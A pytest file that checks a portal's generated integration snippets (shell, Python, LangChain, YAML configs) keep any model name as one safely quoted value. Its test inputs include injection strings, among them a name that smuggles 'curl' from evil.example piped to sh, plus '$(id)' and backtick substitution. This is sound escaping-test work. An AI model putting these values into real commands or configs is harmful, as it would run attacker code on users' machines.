"""Snippets to copy: whatever a model is called, it is a name in them and nothing else."""

from __future__ import annotations

import ast
import shlex
from typing import Any

import pytest
import yaml
from django.test import RequestFactory

from portal.pages.shared.snippets import sections
from relay.catalog.first_call import FirstCall

NAMES = (
    "gpt-5",
    "vendor/model:free",
    "x;curl${IFS}evil.example|sh",
    "$(id)",
    "`id`",
    "'x'",
    'x",api_key="y',
    'x"]\n',
    "x:#&*!|>%@",
    "null",
    "1e3",
    "x\\",
)


def texts(model: str) -> dict[str, Any]:
    request = RequestFactory().get("/", headers={"host": "testserver"})
    found = sections(request, "sk-abc", FirstCall("chat", model))
    return {one.key: one.text for section in found for one in section.snippets}


@pytest.mark.parametrize("model", NAMES)
def test_a_name_is_one_argument_of_a_shell(model: str) -> None:
    found = texts(model)
    words = shlex.split(found["aider"])
    assert words[-3:] == ["aider", "--model", f"openai/{model}"]
    assert "evil.example" not in found["aider"] or f"'openai/{model}'" in found["aider"]
    assert shlex.split(found["curl"])[0] == "curl"


@pytest.mark.parametrize("model", NAMES)
def test_a_name_is_one_text_of_a_program(model: str) -> None:
    found = texts(model)
    for key in ("python", "langchain"):
        calls = [node for node in ast.walk(ast.parse(found[key])) if isinstance(node, ast.Call)]
        named = [word.value for call in calls for word in call.keywords if word.arg == "model"]
        assert [node.value for node in named if isinstance(node, ast.Constant)] == [model]


@pytest.mark.parametrize("model", NAMES)
def test_a_name_is_one_text_of_yaml(model: str) -> None:
    found = texts(model)
    (endpoint,) = yaml.safe_load(found["librechat"])["endpoints"]["custom"]
    assert endpoint["models"]["default"] == [model] and endpoint["titleModel"] == model
    (entry,) = yaml.safe_load(found["continue"])["models"]
    assert (entry["name"], entry["model"]) == (model, model)
